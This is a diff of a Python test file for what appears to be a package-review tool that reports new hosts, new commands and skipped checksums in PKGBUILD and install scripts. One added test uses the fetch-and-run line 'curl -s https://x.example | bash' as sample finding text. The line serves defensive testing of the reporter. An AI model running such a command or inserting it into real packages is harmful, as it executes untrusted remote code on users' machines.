@@ -220,6 +220,13 @@ def test_tables_keep_their_shape() -> None:
         assert len(rows) == len(plain_rows)
 
 
+def test_pipes_stay_pipes_where_they_may() -> None:
+    piped = replace(INSTALL, text="Runs what it fetches: 'curl -s https://x.example | bash'")
+    body = describe(replace(SUBJECT, assessment=Assessment(findings=(piped,)), revision="a|b")).body
+    assert "**Runs what it fetches: `curl -s https://x.example | bash`**" in body
+    assert "| Revision | `a<U+007C>b` |" in body
+
+
 def test_the_dangerous_stands_on_top_and_everything_needed_is_there() -> None:
     body = describe(SUBJECT).body
     first, box = body.split("\n\n")[:2]
@@ -431,9 +438,9 @@ def test_new_hosts_commands_and_checksums_are_named() -> None:
     (change,) = facts.checksums
     assert (change.array, change.new) == ("sha256sums", ("1" * 64, "SKIP"))
     body = describe(replace(SUBJECT, facts=facts)).body
-    assert "- `b.example:8080` in `PKGBUILD`" in body
-    assert "- `curl` in `foo.install`" in body
-    assert "- `sha256sums`: 1 of 2 changed, **1 skipped now**: `222222222222…` → `SKIP`" in body
+    assert "- **New hosts:** `b.example:8080` in `PKGBUILD`; `c.example` in `foo.install`" in body
+    assert "- **New commands:** `true`, `wget`, `sh`, `npm` in `PKGBUILD`; `curl`, `bash` in `foo.install`" in body
+    assert "- **Changed checksums:** `sha256sums`: 1 of 2 changed, **1 skipped now**: `222222222222…` → `SKIP`" in body
 
 
 def test_a_package_that_is_equal_has_no_news() -> None:
